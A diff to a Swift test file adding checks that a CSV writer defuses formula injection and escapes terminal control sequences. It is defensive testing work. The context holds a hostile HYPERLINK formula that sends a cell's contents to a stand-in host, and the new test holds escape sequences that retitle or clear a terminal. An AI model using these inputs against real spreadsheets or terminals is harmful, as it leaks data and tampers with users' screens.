@@ -55,6 +55,22 @@ import Testing
             ])
     }
 
+    /// Review 70: a cell whose formula follows spaces or a line break (an import may trim
+    /// them) is defused too, and control characters are escaped, not written raw, so that
+    /// `head` on the file cannot retitle or clear the terminal; tabs and line feeds stay.
+    @Test func formulasAfterSpacesAndControlCharactersAreDefused() {
+        #expect(CSVWriter.escaped(" =1+1") == "' =1+1")
+        #expect(CSVWriter.escaped("\n@SUM(A1)") == "\"'\n@SUM(A1)\"")
+        #expect(CSVWriter.escaped("\u{A0}=3+3") == "'\u{A0}=3+3")
+        #expect(CSVWriter.escaped("\t-x") == "'\t-x")
+        #expect(CSVWriter.escaped("a = b") == "a = b")
+        #expect(CSVWriter.escaped("a\u{1B}]0;title\u{07}\u{1B}[2J") == "a\\e]0;title\\a\\e[2J")
+        #expect(CSVWriter.escaped("\u{0}nul\u{9B}c1\u{202E}rtl") == "\\x00nul\\x9bc1\\u{202e}rtl")
+        #expect(CSVWriter.escaped("two\tcolumns\nlines") == "\"two\tcolumns\nlines\"")
+        #expect(CSVWriter.escaped("crlf\r\nend") == "\"crlf\r\nend\"")
+        #expect(CSVWriter.escaped("lone\rreturn") == "lone\\rreturn")
+    }
+
     @Test func scanWritesEachTableAndAHostileFamilyCannotBecomeAFormula() throws {
         var documents = OutletCorpus.documents()
         let hostile = "=HYPERLINK(\"http://evil.example/\"&A1, \"click\") is pasted into two stories, word for word, to see what happens."
